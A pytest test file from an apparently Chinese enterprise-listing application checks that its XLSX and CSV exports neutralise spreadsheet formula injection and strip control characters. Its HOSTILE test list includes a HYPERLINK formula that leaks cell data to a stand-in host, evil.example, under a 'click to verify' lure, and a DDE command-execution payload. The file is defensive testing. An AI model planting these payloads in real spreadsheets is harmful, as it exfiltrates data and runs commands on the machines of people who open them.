"""No export turns typed text into a formula, and control characters never break a file (issue: security).

Each spreadsheet the project produces is opened again with openpyxl: a hostile value must come back as the
same text in a string cell (data_type "s"), never as a formula ("f"); CSV fields that a spreadsheet would
evaluate start with an apostrophe.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tidu.core.cells import clean_text, csv_field
from tidu.core.downloads import csv_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此核验")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "＝1+1", "\t=1", "华楚\x0b精密\x01机械"]


def _cells(data: bytes):
    return [cell for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for cell in row
            if cell.value is not None]


def _assert_inert(data: bytes, expected_texts):
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    values = {c.value for c in cells}
    for text in expected_texts:
        assert clean_text(text) in values


def test_clean_text_drops_what_xml_cannot_hold_and_keeps_numbers():
    assert clean_text("a\x00b\x0bc\x1fd\te\nf") == "abcd\te\nf"
    assert clean_text(12) == 12 and clean_text(None) is None and clean_text(dt.date(2026, 3, 1)) == dt.date(2026, 3, 1)


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_csv_fields_that_would_be_evaluated_get_an_apostrophe(text):
    assert csv_field(text) == "'" + text


def test_csv_keeps_ordinary_text_and_numbers():
    assert csv_field("天门市华楚精密机械有限公司") == "天门市华楚精密机械有限公司"
    assert csv_field(-3) == -3 and csv_field("A-1") == "A-1"
    rows = list(csv.reader(io.StringIO(csv_bytes(["名称", "数"], [[HOSTILE[0], 5]]).decode("utf-8-sig"))))
    assert rows == [["名称", "数"], ["'" + HOSTILE[0], "5"]]


def test_summary_xlsx_keeps_hostile_text_as_text(policy):
    from tidu.documents.sample import sample_dossier
    from tidu.documents.xlsx import render_summary_xlsx

    row = sample_dossier(policy).summary_row
    rows = [dataclasses.replace(row, enterprise_name=text, factory_name=text, recommendation=text).numbered(n)
            for n, text in enumerate(HOSTILE, start=1)]  # the first through openpyxl, the rest streamed
    _assert_inert(render_summary_xlsx(rows, title="汇总表", unit_name="岳口镇", date=dt.date(2026, 3, 1)), HOSTILE)


def test_summary_xlsx_from_a_bureau_template_keeps_its_formulas_but_not_ours(policy):
    from tidu.documents.sample import sample_dossier
    from tidu.documents.xlsx import builtin_summary_template, render_summary_xlsx

    row = sample_dossier(policy).summary_row
    rows = [dataclasses.replace(row, enterprise_name=text).numbered(n) for n, text in enumerate(HOSTILE, start=1)]
    _assert_inert(render_summary_xlsx(rows, title="汇总表", template=builtin_summary_template()), HOSTILE)


def test_recommendation_list_xlsx_keeps_hostile_names_and_opinions_as_text():
    from tidu.documents.xlsx import render_recommendation_list_xlsx

    entries = [{"enterprise_name": text, "credit_code": "91429006MA4F0X0X0X", "tier_name": "基础级",
                "recommendation": text} for text in HOSTILE]
    _assert_inert(render_recommendation_list_xlsx("岳口镇", dt.date(2026, 3, 1), entries), HOSTILE)


def test_public_final_list_xlsx_and_csv_are_inert():
    from tidu.publicity.exports import final_csv, final_xlsx
    from tidu.publicity.rules import FINAL_COLUMNS

    snapshot = {"title": "认定名单", "issuer": "市经信局", "list_date": "2026-04-20",
                "finalised_at": "2026-04-20T09:00:00+08:00",
                "columns": [{"key": key, "label": label} for key, label in FINAL_COLUMNS],
                "entries": [{"position": n, "enterprise_name": text, "credit_code": "91429006MA4F0X0X0X",
                             "project_name": text, "unit_name": "岳口镇", "tier_label": "基础级"}
                            for n, text in enumerate(HOSTILE, start=1)]}
    _assert_inert(final_xlsx(snapshot), HOSTILE)
    rows = list(csv.reader(io.StringIO(final_csv(snapshot).decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert names[:6] == ["'" + text for text in HOSTILE[:6]] and names[6] == "华楚精密机械"
